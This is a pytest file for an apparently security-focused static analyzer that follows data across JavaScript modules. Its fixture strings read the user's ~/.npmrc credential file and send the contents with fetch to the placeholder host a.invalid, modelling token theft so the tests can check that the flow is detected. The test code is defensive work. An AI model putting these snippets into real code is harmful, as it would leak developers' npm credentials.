"""Ways across files: what a function is handed comes back to who called it, within what it may have kept."""

import pytest

from lazaretto.core import crossing
from lazaretto.core.crossing import Crossed, crossed
from lazaretto.core.facts import Reach
from lazaretto.core.reach import Loader
from tests.examples import read_facts

_READ = "const d = require('fs').readFileSync(require('os').homedir() + '/.npmrc');\n"
_SEND = "exports.send = (x) => { fetch('https://a.invalid', { body: x }); };\n"
_GIVE_BACK = "exports.same = (x) => { process.env.A; return x; };\n"


def _crossed(files: dict[str, str]) -> Crossed:
    facts = {path: read_facts("javascript", text.encode()) for path, text in files.items()}
    loader = Loader(lambda _, name: (f"{name[2:]}.js",) if f"{name[2:]}.js" in files else ())
    return crossed(facts, dict.fromkeys(files, Reach.IMPORT), loader)


def _ends(found: Crossed) -> set[tuple[str, str]]:
    return {(one.source.path, one.sink.path) for one in found.crossings}


def test_what_is_handed_in_comes_back() -> None:
    """Through as many functions of other files as are called in each other."""
    files = {f"m{n}.js": f"exports.same = (x) => require('./m{n + 1}').same(x);\n" for n in range(12)}
    files |= {"m12.js": _GIVE_BACK, "send.js": _SEND}
    files["a.js"] = f"{_READ}require('./send').send(require('./m0').same(d));\n"

    assert _ends(_crossed(files)) == {("a.js", "send.js")}


def test_one_function_may_keep_what_it_is_given() -> None:
    """And give it to another file that asks for it later."""
    keep = "let kept;\nexports.same = (x) => { process.env.A; if (x) kept = x; return kept; };\n"
    files = {"keep.js": keep, "send.js": _SEND, "a.js": f"{_READ}require('./keep').same(d);\n"}
    files["b.js"] = "require('./send').send(require('./keep').same());\n"

    assert _ends(_crossed(files)) == {("a.js", "send.js")}


def test_helpers_that_everybody_calls_join_nothing() -> None:
    """What one file hands to one helper, and another file to another helper, is not what a third one gets."""
    files = {f"h{n}.js": _GIVE_BACK for n in range(3)} | {
        "send.js": _SEND,
        "a.js": f"{_READ}require('./h0').same(d);\n",
    }
    for n in range(2):
        files[f"b{n}.js"] = f"require('./h{n + 1}').same(require('./h{n}').same(1));\n"
    files["c.js"] = "require('./send').send(require('./h2').same(2));\n"

    assert _ends(_crossed(files)) == set()


def test_what_is_not_followed_to_its_end_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    """Where the steps of one artifact run out, it is a problem of the file where that was."""
    files = {f"m{n}.js": f"exports.same = (x) => require('./m{(n + 1) % 9}').same(x);\n" for n in range(9)}
    files |= {"send.js": _SEND, "a.js": f"{_READ}require('./send').send(require('./m0').same(d));\n"}
    assert _crossed(files).problems == ()
    monkeypatch.setattr(crossing, "MAX_STEPS", 5)
    problems = _crossed(files).problems

    assert "a.js" in {path for path, _ in problems}
